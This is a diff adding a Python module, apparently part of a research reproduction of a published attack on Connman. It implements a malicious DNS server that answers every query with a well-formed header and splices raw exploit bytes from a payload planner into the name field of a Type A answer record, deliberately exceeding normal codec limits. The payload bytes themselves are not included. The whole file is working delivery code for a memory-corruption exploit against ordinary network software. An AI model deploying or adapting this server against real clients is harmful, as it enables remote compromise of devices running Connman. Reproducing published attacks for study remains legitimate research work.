@@ -1,0 +1,66 @@
+"""The attacker-controlled DNS server.
+
+As in §III of the paper: it must first "craft a legitimate response header
+to each DNS query" (id echoed, QR set, question copied) or Connman dumps the
+packet — then it places the exploit bytes *in the name field of the Type A
+answer record*.  The name field is a raw label stream produced by the
+payload planner; it deliberately violates the benign codec's limits, so it
+is spliced into the packet as raw bytes here.
+"""
+
+from __future__ import annotations
+
+import struct
+from dataclasses import dataclass, field
+from typing import Callable, List, Optional
+
+from .message import HEADER_LENGTH, Flags, Message, Rcode
+from .records import RecordClass, RecordType, ip4_to_bytes
+
+#: Builds the malicious label stream, possibly per-query.
+NameBlobFactory = Callable[[Message], bytes]
+
+
+def build_raw_response(query: Message, name_blob: bytes, *, address: str = "10.99.99.99",
+                       rtype: int = RecordType.A, ttl: int = 120) -> bytes:
+    """Assemble response bytes with an attacker-controlled answer name."""
+    flags = Flags(qr=True, rd=query.flags.rd, ra=True, rcode=Rcode.NOERROR)
+    question_wire = b"".join(q.encode() for q in query.questions)
+    rdata = ip4_to_bytes(address) if rtype == RecordType.A else b"\x00" * 16
+    answer_wire = (
+        name_blob
+        + struct.pack(">HHIH", rtype, RecordClass.IN, ttl, len(rdata))
+        + rdata
+    )
+    header = struct.pack(
+        ">HHHHHH", query.id, flags.encode(), len(query.questions), 1, 0, 0
+    )
+    packet = header + question_wire + answer_wire
+    assert len(packet) >= HEADER_LENGTH
+    return packet
+
+
+@dataclass
+class MaliciousDnsServer:
+    """Responds to every query with a crafted Type A answer."""
+
+    name_blob_factory: NameBlobFactory
+    address: str = "10.99.99.99"
+    rtype: int = RecordType.A
+    served: List[str] = field(default_factory=list)
+
+    def handle_query(self, packet: bytes) -> Optional[bytes]:
+        try:
+            query = Message.decode(packet)
+        except Exception:
+            return None
+        if query.is_response or not query.questions:
+            return None
+        blob = self.name_blob_factory(query)
+        self.served.append(query.questions[0].name)
+        return build_raw_response(query, blob, address=self.address, rtype=self.rtype)
+
+
+def fixed_blob_server(name_blob: bytes, **kwargs) -> MaliciousDnsServer:
+    """Convenience: a malicious server that always serves the same payload."""
+    return MaliciousDnsServer(name_blob_factory=lambda _query: name_blob, **kwargs)
